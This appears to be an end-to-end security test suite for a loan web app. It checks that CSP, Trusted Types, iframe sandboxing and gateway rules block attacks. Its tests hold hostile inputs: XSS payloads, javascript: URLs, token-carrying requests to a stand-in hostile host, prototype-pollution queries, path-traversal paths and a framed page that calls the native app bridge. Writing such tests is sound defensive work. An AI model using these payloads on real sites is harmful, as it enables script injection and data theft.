import { versionOf } from '../../tools/build/packages';
import { startFront } from '../world/front';
import { expect, test } from '../world/journey';
import { aroundPage } from '../world/native';
import { reached } from '../world/passing';
import { CLIENT_RENDERED } from '../world/stores';
import { hostileRan, strayRequests } from './attack';

const DETAIL = { productId: '3101', orderId: 'ID-174-1' };

test('the policy of the page is in force: inline script, eval, javascript addresses, foreign scripts, frames and forms', async ({
  world,
  page,
  noise,
}) => {
  noise.allow(/Content Security Policy/);
  noise.allow(/This document requires 'Trusted/);
  noise.allow(/Creating a TrustedTypePolicy named '(?:mine|shell-html)'/);
  const stray = strayRequests(page, world);
  await page.goto(world.address('loanDetail', 'indonesia', DETAIL));
  await expect(page.getByRole('link', { name: 'Layanan Pelanggan' })).toBeVisible();
  await page.evaluate(() => {
    // In its own task: code evaluated by a debugger may use eval, code of the page may not.
    setTimeout(() => {
      const outcomes: Record<string, string> = {};
      const attempt = (name: string, run: () => unknown) => {
        try {
          run();
          outcomes[name] = 'done';
        } catch (fault) {
          outcomes[name] = (fault as Error).name;
        }
      };
      // oxlint-disable-next-line no-eval -- the policy has to refuse it
      attempt('eval', () => eval('window.hostileRan = 1'));
      // oxlint-disable-next-line typescript/no-implied-eval -- the policy has to refuse it
      attempt('function', () => (new Function('window.hostileRan = 1') as () => void)());
      // oxlint-disable-next-line typescript/no-implied-eval -- the policy has to refuse it
      attempt('timeout', () => setTimeout('window.hostileRan = 1', 0));
      attempt('inline script', () => {
        const script = document.createElement('script');
        script.textContent = 'window.hostileRan = 1';
        document.head.append(script);
      });
      attempt('innerHTML', () => {
        document.createElement('div').innerHTML = '<img src=x onerror="window.hostileRan=1">';
      });
      attempt('a policy of its own', () =>
        (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes.createPolicy('mine', {}),
      );
      // Its name was reserved at the start, although nothing has needed it yet.
      attempt('the policy that makes HTML', () =>
        (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes.createPolicy(
          'shell-html',
          {
            createHTML: (text: string) => text,
          },
        ),
      );
      attempt('handler attribute', () => {
        const button = document.createElement('button');
        button.setAttribute('onclick', 'window.hostileRan=1');
        document.body.append(button);
        button.click();
        button.remove();
      });
      attempt('javascript address', () => {
        const link = document.createElement('a');
        link.href = 'javascript:window.hostileRan=1';
        document.body.append(link);
        link.click();
        link.remove();
      });
      attempt('javascript frame', () => {
        const frame = document.createElement('iframe');
        frame.src = 'javascript:parent.hostileRan=1';
        document.body.append(frame);
      });
      attempt('foreign frame', () => {
        const frame = document.createElement('iframe');
        frame.src = 'https://hostile.example/';
        document.body.append(frame);
      });
      attempt('foreign image', () => {
        new Image().src = 'https://hostile.example/pixel.png?token=1';
      });
      attempt('base', () => {
        const base = document.createElement('base');
        base.href = 'https://hostile.example/';
        document.head.append(base);
      });
      attempt('form', () => {
        const form = document.createElement('form');
        form.action = 'https://hostile.example/';
        form.method = 'post';
        document.body.append(form);
        form.submit();
      });
      (window as unknown as { outcomes: unknown }).outcomes = outcomes;
    });
  });
  const outcomes = await (
    await page.waitForFunction(() => (window as unknown as { outcomes?: Record<string, string> }).outcomes)
  ).jsonValue();
  expect(outcomes).toMatchObject({
    eval: 'EvalError',
    function: 'EvalError',
    innerHTML: 'TypeError',
    'a policy of its own': 'TypeError',
    'the policy that makes HTML': 'TypeError',
  });
  await reached(page);
  const fetched = await page.evaluate(() =>
    fetch('https://hostile.example/?token=1').then(
      () => 'sent',
      () => 'refused',
    ),
  );
  expect(fetched).toBe('refused');
  expect(await hostileRan(page)).toBeUndefined();
  expect(page.url()).toContain('/loanDetail?');
  expect(stray).toEqual([]);
  expect(await page.evaluate(() => document.baseURI)).toContain(world.front.origin);
});

test('scripts in a document changed on its way do not run, not even files of the product under another hash', async ({
  world,
  page,
  noise,
}) => {
  noise.allow(/Content Security Policy|Integrity-Policy|integrity/i);
  const { version, entry } = await world.record('remote-repay', versionOf('remote-repay'));
  const planted = [
    '<script>window.hostileRan = "inline"</script>',
    '<script src="https://hostile.example/a.js"></script>',
    `<script src="/assets/remote-repay/${version}/${entry}"></script>`,
    `<script src="/assets/remote-repay/${version}/${entry}" integrity="sha384-${'A'.repeat(64)}" crossorigin="anonymous"></script>`,
    '<img src="x" onerror="window.hostileRan = 1">',
  ].join('');
  world.front.injectFault(/^\/loanDetail$/, { kind: 'change', change: (html) => html.replace('</body>', `${planted}</body>`) });
  const before = world.front.requests.length;
  await page.goto(world.address('loanDetail', 'indonesia', DETAIL));
  await expect(page.getByRole('link', { name: 'Layanan Pelanggan' })).toBeVisible();
  expect(await hostileRan(page)).toBeUndefined();
  expect(await page.evaluate(() => Object.keys(window).filter((name) => name.startsWith('remote_repay')))).toEqual([]);
  expect(world.front.requests.slice(before).filter(({ path }) => path.includes('/remote-repay/'))).toEqual([]);
});

for (const [market, productId, apply, intro] of [
  ['indonesia', '3103', 'Ajukan Sekarang', 'Dengan mengajukan, Anda menyetujui ketentuan berikut:'],
  ['india', '9103', 'Apply now', 'By applying you accept these terms:'],
] as const) {
  test(`hostile markup in an agreement is harmless, its text stays: ${market}`, async ({ world, page, noise }) => {
    // The browser may report the attack; ordinary markup causes no report (borrower.spec).
    noise.allow(/Executing inline event handler violates/);
    const stray = strayRequests(page, world);
    await page.goto(world.address('loanConfirm', market, { productId }));
    await page.getByRole('button', { name: apply }).tap();
    const dialog = page.getByRole('dialog');
    await expect(dialog.getByText(intro)).toBeVisible();
    await expect(dialog.getByRole('row')).toHaveCount(3);
    const inside = await dialog.evaluate((element) => {
      const words = element.querySelector('table')?.parentElement;
      const all = Array.from(words?.querySelectorAll('*') ?? []);
      return { tags: [...new Set(all.map(({ tagName }) => tagName))].sort(), attributes: all.flatMap((each) => each.getAttributeNames()) };
    });
    expect(inside.tags.filter((tag) => !['P', 'TABLE', 'TBODY', 'TR', 'TD', 'B'].includes(tag))).toEqual([]);
    expect(inside.attributes).toEqual([]);
    // Only the product's own frame, without access to this page.
    await expect(dialog.locator('iframe')).toHaveCount(1);
    await expect(dialog.locator('iframe')).toHaveAttribute('sandbox', '');
    expect(await hostileRan(page)).toBeUndefined();
    expect(stray).toEqual([]);
  });
}

/** A page that calls the native bridge in every way available to a frame, on any click and without one. */
const SPEAKING = `<!doctype html><meta http-equiv="refresh" content="0;url=javascript:AppBridge.openPage('refresh')">
<h1>Framed terms</h1><script>AppBridge.callPhone('0800')</script><script>parent.AppBridge.openPage('loanapp://x')</script>
<script src="data:text/javascript,AppBridge.openPage('data')"></script>
<img src="x:" onerror="AppBridge.openPage('handler')"><body onload="AppBridge.openPage('load')">
<iframe srcdoc="<script>AppBridge.openPage('inner')</script>"></iframe>
<a target="_top" href="javascript:AppBridge.openPage('link')">further</a><form target="_top" action="javascript:AppBridge.openPage('form')"><button>send</button></form>`;

for (const native of ['android', 'ios'] as const) {
  test(`scripts of a framed agreement do not reach the native bridge, although every frame has it: ${native}`, async ({
    world,
    page,
    certificate,
    noise,
  }) => {
    // The browser may report what it has blocked.
    noise.allow(/allow-forms|Refused to refresh|Unsafe attempt to initiate navigation|ERR_UNKNOWN_URL_SCHEME/);
    const bridge = native === 'android' ? 'AppBridge' : 'webkit.messageHandlers';
    const document = native === 'android' ? SPEAKING : SPEAKING.replace(/AppBridge\.(\w+)\(/g, 'webkit.messageHandlers.$1.postMessage(');
    const foreign = await startFront((_request, response) => {
      response.writeHead(200, { 'content-type': 'text/html' });
      response.end(document);
    }, certificate);
    // The reply is changed between gateway and browser, where a server-rendered page does not request it.
    await world.configure({ ...CLIENT_RENDERED, hosts: { allowed: [foreign.origin] } });
    const calls = await aroundPage(page, native);
    // A document of another site, and one of the same site whose server sends no policy.
    world.front.injectFault(/agreement\/0$/, { kind: 'change', change: () => document, withoutHeaders: ['content-security-policy'] });
    for (const address of [`${foreign.origin}/terms`, `${world.front.origin}/sandbox/agreement/0`]) {
      const rule = world.front.injectFault(/loan-detail-confirm$/, {
        kind: 'change',
        change: (body) => {
          const reply = JSON.parse(body) as { data: object };
          return JSON.stringify({ ...reply, data: { ...reply.data, popAgreementUrl: address } });
        },
      });
      await page.goto(world.address('loanConfirm', 'indonesia', { productId: '3101' }));
      await page.getByRole('button', { name: 'Ajukan Sekarang' }).tap();
      const framed = page.frameLocator('iframe');
      await expect(framed.getByRole('heading', { name: 'Framed terms' })).toBeVisible();
      await framed.getByRole('link', { name: 'further' }).tap();
      await framed.getByRole('button', { name: 'send' }).tap();
      // The frame's own refresh was due when it had loaded.
      await reached(page);
      expect(calls, `${bridge} from ${address}`).toEqual([]);
      expect(page.url()).toContain('/loanConfirm?');
      rule.end();
    }
    // The bridge was there all along: it accepts calls of the page itself.
    await page.goto(world.address('login', 'indonesia'));
    await expect.poll(() => calls.map(({ action }) => action)).toEqual(['returnLogin']);
    await foreign.close();
  });
}

test('a hostile query is text at most', async ({ world, page }) => {
  const stray = strayRequests(page, world);
  await page.goto(
    world.address('loanDetail', 'indonesia', {
      productId: '"><img src=x onerror=window.hostileRan=1>',
      orderId: '__proto__',
      type: 'constructor',
      market: '<script>window.hostileRan=1</script>',
    }),
  );
  await expect(page.getByRole('button', { name: 'Muat Ulang' })).toBeVisible();
  await page.goto(world.address('repayOrNot', 'indonesia', { ...DETAIL, amount: '1e9', display: 'javascript:1' }));
  await expect(page.getByText('Jumlah tagihan tidak terbaca')).toBeVisible();
  expect(await hostileRan(page)).toBeUndefined();
  expect(await page.evaluate(() => Object.keys(Object.prototype))).toEqual([]);
  expect(await world.sandbox.requests('virtualAccount')).toEqual([]);
  expect(stray).toEqual([]);
});

test('the page may use the device features that the app uses; features that the header denies are denied in the browser', async ({
  world,
  page,
}) => {
  const document = await page.goto(world.address('loanDetail', 'indonesia', DETAIL));
  const closed = [...((await document?.headerValue('permissions-policy')) ?? '').matchAll(/([a-z-]+)=\(\)/g)].map(([, name]) => name);
  expect(closed).toEqual(expect.arrayContaining(['geolocation', 'microphone', 'payment']));
  const open = await page.evaluate(() =>
    (window.document as unknown as { featurePolicy: { allowedFeatures(): string[] } }).featurePolicy.allowedFeatures(),
  );
  expect(open).toEqual(expect.arrayContaining(['camera', 'clipboard-write']));
  expect(open.filter((name) => closed.includes(name))).toEqual([]);
  // Features of later browsers are allowed until the header names them; none that reaches the device is allowed now.
  expect(open.filter((name) => /credential|sensor|usb|hid|serial|midi|capture|network|location|token|storage/.test(name))).toEqual([]);
});

test('the gateway forwards no ambiguous request, nor a method that no call has', async ({ world, page, noise }) => {
  noise.allow(/the server responded with a status of 40[05]/);
  await page.goto(world.address('loanDetail', 'indonesia', DETAIL));
  await expect(page.getByRole('link', { name: 'Layanan Pelanggan' })).toBeVisible();
  const answers = await page.evaluate(() =>
    Promise.all(['/byfhns/..;/sandbox', '/byfhns/%252e%252e/sandbox', '/byfhns//sandbox'].map(async (path) => (await fetch(path)).status)),
  );
  expect(answers).toEqual([400, 400, 400]);
  expect(await page.evaluate(async () => (await fetch('/byfhns/v3/contract/contract', { method: 'DELETE' })).status)).toBe(405);
});
